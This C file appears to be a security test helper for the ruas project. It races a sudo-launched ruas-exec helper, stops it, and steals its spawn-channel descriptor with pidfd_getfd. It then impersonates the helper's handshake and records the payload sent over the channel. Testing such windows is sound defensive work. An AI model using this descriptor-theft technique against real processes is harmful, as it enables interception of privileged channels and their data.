/* SPDX-License-Identifier: ISC */
/*
 * review24_steal.c - a process of the target's own, running beside ruas
 * (tests/integration/review24.sh, part helper-window).
 *
 *   review24_steal SECONDS OUT
 *
 * Says "watching" in OUT, then waits for `sudo ... ruas-exec --channel-fd
 * 0`, then for its child to become ruas-exec (its comm in /proc/PID/stat,
 * readable by anyone), stops it at once (the target may signal it: sudo
 * has dropped to the target), takes its descriptor 0, the spawn channel,
 * with pidfd_getfd() (allowed while the process is dumpable: between the
 * exec of a helper that the target can read and the helper's
 * PR_SET_DUMPABLE), says the helper's HELLO itself, waits up to 5 s for
 * what the library sends then (the payload), writes it to OUT and
 * continues the helper. Exits 0 when it took the channel, 1 when the time
 * ran out. SIGTERM ends it, but never in the middle of a theft.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static long long now_ms(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec * 1000LL + t.tv_nsec / 1000000;
}

static ssize_t slurp(int pid, const char *name, char *b, size_t size)
{
	char p[64];
	snprintf(p, sizeof p, "/proc/%d/%s", pid, name);
	int fd = open(p, O_RDONLY);
	if (fd < 0)
		return -1;
	ssize_t n = read(fd, b, size - 1);
	close(fd);
	if (n >= 0)
		b[n] = '\0';
	return n;
}

/* sudo's command line for ruas-exec (the parent, and its child until the exec). */
static int is_sudo_of_helper(int pid)
{
	char b[4096];
	ssize_t n = slurp(pid, "cmdline", b, sizeof b);
	for (ssize_t i = 0; i < n; i++)
		if (!b[i])
			b[i] = ' ';
	return n > 0 && strstr(b, "ruas-exec") && strstr(b, "--channel-fd 0");
}

static char state(int pid)
{
	char b[512];
	if (slurp(pid, "stat", b, sizeof b) <= 0)
		return 0;
	char *q = strrchr(b, ')');
	return q && q[1] ? q[2] : 0;
}

int main(int argc, char **argv)
{
	if (argc != 3)
		return 2;
	long long end = now_ms() + atoi(argv[1]) * 1000LL;
	static char seen[1 << 22];
	sigset_t term;
	sigemptyset(&term);
	sigaddset(&term, SIGTERM);
	FILE *w = fopen(argv[2], "w");
	if (!w || fputs("watching\n", w) < 0 || fclose(w) != 0)
		return 2;
	while (now_ms() < end) {
		DIR *d = opendir("/proc");
		struct dirent *e;
		int sudo = 0;
		while (d && (e = readdir(d))) {
			int pid = atoi(e->d_name);
			if (pid > 0 && pid < (1 << 22) && !seen[pid] && is_sudo_of_helper(pid)) {
				seen[pid] = 1;
				sudo = pid;
				break;
			}
		}
		if (d)
			closedir(d);
		if (!sudo) {
			usleep(100);
			continue;
		}
		/* Its child is one of the next pids; no SIGTERM ends this half-done. */
		sigprocmask(SIG_BLOCK, &term, NULL);
		int done[4] = {0};
		for (long long until = now_ms() + 300; now_ms() < until;) {
			for (int k = 1; k < 4; k++) {
				int pid = sudo + k;
				char b[512];
				if (done[k] || slurp(pid, "stat", b, sizeof b) <= 0 || !strstr(b, "(ruas-exec)"))
					continue;
				done[k] = 1;
				if (kill(pid, SIGSTOP) != 0)
					continue;
				for (int i = 0; i < 20000 && state(pid) != 'T'; i++)
					;
				int pfd = (int)syscall(SYS_pidfd_open, pid, 0);
				int fd = pfd < 0 ? -1 : (int)syscall(SYS_pidfd_getfd, pfd, 0, 0);
				if (pfd >= 0)
					close(pfd);
				if (fd >= 0) {
					/* The helper's HELLO, as the library would take it from the helper. */
					static const char hello[] = "\0\0\0\5\14RUAS\12";
					(void)send(fd, hello, sizeof hello - 1, MSG_NOSIGNAL);
					struct pollfd pf = {fd, POLLIN, 0};
					(void)poll(&pf, 1, 5000);
					char buf[65536];
					ssize_t n = recv(fd, buf, sizeof buf, MSG_PEEK | MSG_DONTWAIT);
					FILE *f = fopen(argv[2], "w");
					if (f) {
						fprintf(f, "took descriptor 0 of pid %d, peeked %zd bytes\n", pid, n);
						if (n > 0)
							fwrite(buf, 1, (size_t)n, f);
						fclose(f);
					}
					kill(pid, SIGCONT);
					return 0;
				}
				kill(pid, SIGCONT);
			}
		}
		sigprocmask(SIG_UNBLOCK, &term, NULL);
	}
	return 1;
}
